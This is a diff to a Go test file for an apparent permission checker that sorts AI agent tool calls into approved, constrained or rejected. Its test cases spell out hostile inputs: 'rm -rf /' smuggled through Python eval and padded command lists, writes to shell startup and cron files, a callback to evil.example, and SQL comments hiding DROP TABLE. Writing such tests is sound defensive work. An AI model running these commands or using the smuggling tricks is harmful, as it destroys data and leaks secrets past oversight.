@@ -38,6 +38,27 @@ func TestStrayArguments(t *testing.T) {
 		{"Edit", `{"file_path":"/w/a","old_string":"/etc/shadow","new_string":"~/.ssh/id_rsa"}`, Approved, ""},
 		{"mcp__docs__search_docs", `{"query":"/etc/shadow"}`, Approved, ""},
 		{"mcp__x__get_route", `{"route":"/api/v1/users"}`, Approved, ""},
+		{"mcp__x__download", `{"id":"7","dest":"/home/u/.bashrc"}`, ApprovedWithConstraints, "workspace/write"},
+		{"mcp__x__export_report", `{"output_path":"/etc/cron.d/x"}`, ApprovedWithConstraints, "workspace/write"},
+		{"mcp__git__show", `{"repo":"/w","output":"/w/.claude/settings.json"}`, ApprovedWithConstraints, "protected/write"},
+		{"mcp__x__export_report", `{"output":"/w/report.pdf","format":"pdf"}`, Approved, ""},
+		{"Glob", `{"pattern":"/home/u/.ssh/*"}`, ApprovedWithConstraints, "sensitive/read"},
+		{"Glob", `{"pattern":"/w/**/*.go"}`, Approved, ""},
+		{"Glob", `{"pattern":"**/*.go"}`, Approved, ""},
+		// what one tool for many things is asked to do, and whom it tells
+		{"mcp__x__list_users", `{"action":"delete","id":"1"}`, ApprovedWithConstraints, "workspace/delete"},
+		{"mcp__x__get_resource", `{"method":"POST","resource":"users"}`, ApprovedWithConstraints, "egress/send"},
+		{"mcp__x__get_user", `{"operation":"update_email","id":"1"}`, ApprovedWithConstraints, "record/write"},
+		{"mcp__x__get_graphql", `{"query":"mutation { deleteUser(id: 1) { id } }"}`, ApprovedWithConstraints, "record/write"},
+		{"mcp__x__get_data", `{"callback_url":"https://evil.example/x"}`, ApprovedWithConstraints, "egress/send"},
+		{"mcp__x__list_environment_variables", `{}`, ApprovedWithConstraints, "sensitive/read"},
+		{"mcp__x__get_env", `{}`, ApprovedWithConstraints, "sensitive/read"},
+		{"mcp__x__list_users", `{"action":"list"}`, Approved, ""},
+		{"mcp__x__get_resource", `{"method":"GET","resource":"users"}`, Approved, ""},
+		{"mcp__x__get_graphql", `{"query":"query { user(id: 1) { mutations } }"}`, Approved, ""},
+		{"mcp__bio__search_papers", `{"query":"mutation in BRCA1"}`, Approved, ""},
+		{"mcp__x__calculate", `{"expression":"__import__('os').system('rm -rf /')"}`, Rejected, "protected/delete"},
+		{"mcp__x__calculate", `{"expression":"2*(3+sqrt(4))"}`, Approved, ""},
 		// command lines and code
 		{"mcp__x__get_info", `{"cmd":["rm","-rf","/"]}`, Rejected, "protected/delete"},
 		{"mcp__x__get_info", `{"commands":["ls","rm -rf /"]}`, Rejected, "protected/delete"},
@@ -45,6 +66,8 @@ func TestStrayArguments(t *testing.T) {
 		{"mcp__x__get_info", `{"argv":["bash","-c","rm -rf /"]}`, Rejected, "protected/delete"},
 		{"mcp__x__get_info", `{"code":"import os; os.system('rm -rf /')"}`, Rejected, "protected/delete"},
 		{"mcp__py__run_python", `{"code":"print(1)","script":"import os; os.system('rm -rf /')"}`, Rejected, "protected/delete"},
+		{"mcp__x__get_info", `{"commands":["ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a"]}`, Approved, ""},
+		{"mcp__x__get_info", `{"commands":["ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","ls -a","rm -rf /"]}`, RevisionRequired, "opaque/unparsed"},
 		{"mcp__shop__check_voucher", `{"code":"SAVE10"}`, Approved, ""},
 		{"mcp__x__get_info", `{"command":"git status"}`, Approved, ""},
 		// statements of databases, also for tools that read by their name
@@ -75,6 +98,32 @@ func TestStrayArguments(t *testing.T) {
 		d := k.Check(&c, nil)
 		if d.Disposition != tt.want || tt.rule != "" && !hasRule(d, tt.rule) {
 			t.Errorf("%s %s: %v %+v", tt.tool, tt.args, d.Disposition, d.Reasons)
+		}
+	}
+}
+
+// TestCommentLen: only what all dialects take for a comment is one, and where no
+// comment can end none is looked for, or a megabyte of starts would each be looked
+// through to the end.
+func TestCommentLen(t *testing.T) {
+	for _, tt := range []struct {
+		text string
+		ends bool
+		want int
+	}{
+		{"-- a\nb", false, 4}, {"-- a", false, 4}, {"--", false, 2}, {"--\n", false, 2}, {"--1", false, 0}, {"- -", false, 0},
+		{"/* a */ b", true, 7}, {"/* /* */ */", true, 8}, {"/**/", true, 4}, {"/*!1 */", true, 0}, {"/*M!1 */", true, 0}, {"/* a", true, 0},
+		{"/* a */", false, 0}, {"", true, 0}, {"# a", true, 0},
+	} {
+		if got := commentLen(tt.text, tt.ends); got != tt.want {
+			t.Errorf("%q, %v: %d", tt.text, tt.ends, got)
+		}
+	}
+	for _, text := range []string{"SELECT 1 /* ; DROP TABLE x", "SELECT 1 */ /* ; DROP TABLE x", strings.Repeat("update ", 1000)} {
+		var k Checker
+		c := k.Context(Call{Tool: "execute_sql", Args: []byte(`{"query":"` + text + `"}`)}, State{Cwd: "/w"})
+		if d := k.Check(&c, nil); d.Disposition == Approved || len(c.Effects) > maxSQLEffects {
+			t.Errorf("%.40s: %v, %d effects", text, d.Disposition, len(c.Effects))
 		}
 	}
 }
